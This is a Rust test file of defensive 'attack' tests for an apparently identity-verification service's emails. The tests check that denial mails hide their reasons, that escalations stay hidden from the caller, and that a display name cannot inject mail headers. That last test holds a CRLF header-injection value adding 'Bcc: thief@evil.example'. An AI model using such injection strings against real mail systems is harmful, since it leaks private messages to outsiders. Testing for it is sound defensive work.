//! R10 and R18: who is told, and that a denial teaches nobody the procedure.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use review::*;
use serde_json::json;

use super::siege::{Siege, Tried};

attacks! {
    attack_a_denial_that_tells_how_to_do_better;
    attack_a_name_that_adds_recipients;
    attack_an_escalation_that_warns_the_caller;
}

/// The caller is denied and reads the mail for what went wrong.
async fn attack_a_denial_that_tells_how_to_do_better(siege: &mut Siege) -> Tried {
    let ana = siege.ana().await;
    let file = siege.opened(&ana).await;
    let salt: [u8; 32] = rand::random();
    let note = "the hologram is missing and the caller hurried me";
    let mut claim = ana.claim(&file, Verdict::Deny);
    claim.reasons = vec![ReasonCode("D-05".to_owned()), ReasonCode("D-04".to_owned())];
    claim.note_digest = Some(audit::commitment::commit(&salt, note.as_bytes()).to_hex());
    let denial = ana.prepare(&file, claim).await.with(|sent| {
        sent.note = Some(Salted { salt: STANDARD.encode(salt), text: note.to_owned() });
    });
    assert_eq!(ana.send(&denial).await.status(), 201);
    let facts = file.facts.unwrap();
    let mail = siege.world.sandbox.mailbox().wait_for(&facts.person.mail.unwrap(), 1).await;
    let text = format!("{} {}", mail[0].subject, mail[0].text).to_lowercase();
    let policy = Policy::strict();
    let reasons = policy.reasons_for(Verdict::Deny).flat_map(|one| [&one.code.0, &one.label]);
    let checks = facts.checks.iter().map(|check| &check.label);
    let told = reasons.chain(checks).any(|words| text.contains(&words.to_lowercase()));
    siege.never(told || text.contains("hologram") || text.contains("ferreira"))?;
    siege.always(text.contains("service desk"), "the person learns where to go");
    Ok(())
}

/// A display name with a header in it, as a directory that others may write could have.
async fn attack_a_name_that_adds_recipients(siege: &mut Siege) -> Tried {
    let subject = siege.session().subject.to_string();
    let name = "Kasia\r\nBcc: thief@evil.example\r\n\r\nPress here";
    let named = json!({ "displayName": name }).as_object().unwrap().clone();
    siege.world.sandbox.patch_user(&subject, named).unwrap();
    let ana = siege.ana().await;
    let file = siege.opened(&ana).await;
    siege.control(&ana, &ana.approval(&file).await).await;
    let to = file.facts.unwrap().person.mail.unwrap();
    siege.world.sandbox.mailbox().wait_for(&to, 1).await;
    let sent = "SELECT count(*) FROM notices WHERE accepted_at IS NULL";
    crate::world::until(async || siege.count(sent).await == 0).await;
    let mails = siege.world.sandbox.mailbox().messages();
    let ours = |to: &str| to.ends_with("@tarnholm.example");
    // Nor do its lines become lines of ours: a thief would write the rest of the mail.
    let said = |mail: &sandbox::mailbox::Message| format!("{}{}", mail.subject, mail.text);
    let injected = mails.iter().any(|mail| !ours(&mail.to) || said(mail).contains('\r'));
    siege.never(injected)?;
    Ok(())
}

/// R13: who is forced to help must be able to call for help unseen.
async fn attack_an_escalation_that_warns_the_caller(siege: &mut Siege) -> Tried {
    let mut ana = siege.ana().await;
    let file = siege.opened(&ana).await;
    ana.decide(&file, Verdict::Escalate).await;
    siege.world.sandbox.mailbox().wait_for("security@tarnholm.example", 1).await;
    let person = file.facts.unwrap().person.mail.unwrap();
    let told = !siege.world.sandbox.mailbox().messages_to(&person).is_empty();
    siege.never(told)?;
    let to_others = "SELECT count(*) FROM notices WHERE recipient <> 'fallback'";
    let told = siege.count(to_others).await > 0;
    siege.never(told)?;
    let alerted = siege.count("SELECT count(*) FROM notices").await == 1;
    siege.always(alerted, "the security desk is");
    Ok(())
}
